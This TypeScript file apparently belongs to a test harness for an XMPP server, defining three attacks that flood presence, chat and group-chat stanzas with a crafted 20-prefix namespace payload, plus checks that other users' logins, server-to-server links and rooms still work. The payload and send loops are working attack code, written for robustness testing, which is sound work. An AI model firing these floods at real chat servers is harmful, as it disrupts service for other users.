// Stanzas that the server accepts, but writes in a form that it or another server would refuse: 20 prefixes, used by a parent and
// by its child. The attacker is an account. Logins, links and rooms of other users must work as before.

import { setTimeout as sleep } from 'node:timers/promises';
import { LoadClient } from '../../client.ts';
import type { Attack, Witness } from '../attacker.ts';
import { loginOf } from '../prober.ts';
import { ACCOMPLICES, AWAY, HOME, type World } from '../world.ts';
import { join, persist, roomJid } from './room.ts';

const EVERY_MS = 100;
/** Time limit of a message across two servers that share two processors. */
const LIMIT_MS = 1_000;

const PREFIXES = Array.from({ length: 20 }, (_, i) => `p${i}`);
const DECLARED = PREFIXES.map((prefix) => `xmlns:${prefix}='u:${prefix}'`).join(' ');
const USED = PREFIXES.map((prefix) => `${prefix}:a=''`).join(' ');
const POISON = `<x xmlns='u:x' ${DECLARED} ${USED}><y ${USED}/></x>`;

const poisonLogin: Attack = {
  name: 'poison-login',
  who: 'account',
  async run(attacker) {
    await attacker.each(ACCOMPLICES.length, async (index) => {
      const wire = await attacker.login(ACCOMPLICES[index]!);
      for (;;) {
        await wire.send(`<presence type='subscribe' to='alice@${HOME}'>${POISON}</presence>`);
        await wire.send(`<message type='chat' to='alice@${HOME}'><body>b</body>${POISON}</message>`);
        await sleep(EVERY_MS);
      }
    });
  },
  /** Bob writes to Alice while she is offline. She logs in, must receive her own presence and the message, and logs out. */
  async witness({ home }) {
    const bob = await LoadClient.login(loginOf(home, 'bob', 'desktop'));
    return async (over) => {
      let [came, good] = [0, 0];
      const faults = new Set<string>();
      while (!over.aborted) {
        bob.write(`<message type='chat' to='alice@${HOME}'><body>word ${came}</body></message>`);
        await sleep(300);
        const alice = await LoadClient.login(loginOf(home, 'alice', 'phone'));
        alice.write(`<presence id='initial'/>`);
        const heard = await heardFor(alice, 700);
        const isRefused = /<presence[^>]*type=['"]error/.test(heard);
        if (isRefused) faults.add('her presence was refused');
        const hasMessage = heard.includes(`word ${came}<`);
        if (!hasMessage) faults.add('her messages did not come');
        if (!isRefused && hasMessage) good++;
        came++;
        alice.close();
      }
      return {
        text: `${good} of ${came} logins of the victim succeeded ${[...faults]}`,
        isGood: good === came,
      };
    };
  },
};

async function heardFor(client: LoadClient, ms: number): Promise<string> {
  let heard = '';
  client.drainTo((chunk) => {
    heard += chunk.toString('latin1');
  });
  await sleep(ms);
  return heard;
}

const poisonLink: Attack = {
  name: 'poison-link',
  who: 'account',
  seconds: 8,
  needsAway: true,
  async run(attacker) {
    await attacker.forever(async () => {
      const wire = await attacker.login();
      for (;;) {
        await wire.send(`<message to='dave@${AWAY}' type='chat'><body>b</body>${POISON}</message>`);
        await sleep(EVERY_MS);
      }
    });
  },
  async witness(world) {
    const [alice, bob] = await pair(world);
    return conversation(alice, bob);
  },
};

/** Sends such stanzas as presence and messages of an occupant. The witness enters the room from the other server. */
const poisonRoom: Attack = {
  name: 'poison-room',
  who: 'account',
  seconds: 8,
  needsAway: true,
  async run(attacker) {
    await attacker.forever(async () => {
      const wire = await attacker.login();
      await wire.send(join('poisoned', { payload: POISON }));
      for (;;) {
        const to = roomJid('poisoned');
        await wire.send(`<message type='groupchat' to='${to}'><body>b</body>${POISON}</message>`);
        await sleep(EVERY_MS);
      }
    });
  },
  /** Alice has created the room. Bob enters it from the other server, each time with a new nick. */
  async witness({ home, away }) {
    const alice = await LoadClient.login(loginOf(home, 'alice', 'desktop'));
    alice.write(`${join('poisoned', { nick: 'alice' })}${persist('poisoned')}`);
    await alice.until(/id=['"]u['"]/);
    alice.drainTo(() => {});
    const bob = await LoadClient.login(loginOf(away, 'bob', 'desktop'));
    return async (over) => {
      await sleep(500);
      const delays: number[] = [];
      let joins = 0;
      while (!over.aborted) {
        const began = performance.now();
        const nick = `bob${joins++}`;
        const to = `${roomJid('poisoned')}/${nick}`;
        bob.write(`<presence to='${to}'><x xmlns='http://jabber.org/protocol/muc'/></presence>`);
        const isIn = await Promise.race([bob.until(/code=['"]110/), sleep(LIMIT_MS)]);
        if (isIn !== undefined) delays.push(performance.now() - began);
        bob.write(`<presence type='unavailable' to='${to}'/>`);
        await sleep(EVERY_MS);
      }
      const slowest = Math.max(0, ...delays);
      const text = `${delays.length} of ${joins} joins from the other server were answered, the slowest after ${slowest.toFixed(0)} ms`;
      return { text, isGood: delays.length === joins };
    };
  },
};

/** Alice and Bob on two servers with a link. */
async function pair({ home, away }: World): Promise<[LoadClient, LoadClient]> {
  const alice = await LoadClient.login(loginOf(home, 'alice', 'desktop'));
  const bob = await LoadClient.login(loginOf(away, 'bob', 'desktop'));
  alice.write(`<message to='${bob.jid}' type='chat'><body>hello</body></message>`);
  await bob.until('hello');
  return [alice, bob];
}

/** Alice writes every 100 ms. Each message must arrive in time. */
function conversation(alice: LoadClient, bob: LoadClient): Witness {
  return async (over) => {
    const delays = new Map<number, number>();
    bob.drainTo((chunk) => {
      for (const [, number, sentAt] of chunk.toString('latin1').matchAll(/<body>word (\d+) ([\d.]+)/g))
        delays.set(Number(number), performance.now() - Number(sentAt));
    });
    let sent = 0;
    while (!over.aborted) {
      const body = `word ${sent++} ${performance.now()}`;
      alice.write(`<message to='${bob.jid}' type='chat' id='m${sent}'><body>${body}</body></message>`);
      await sleep(EVERY_MS);
    }
    await sleep(LIMIT_MS);
    const slowest = Math.max(0, ...delays.values());
    return {
      text: `${delays.size} of ${sent} messages of others arrived, the slowest after ${slowest.toFixed(0)} ms`,
      isGood: delays.size === sent && slowest <= LIMIT_MS,
    };
  };
}

export const POISON_ATTACKS = [poisonLogin, poisonLink, poisonRoom];
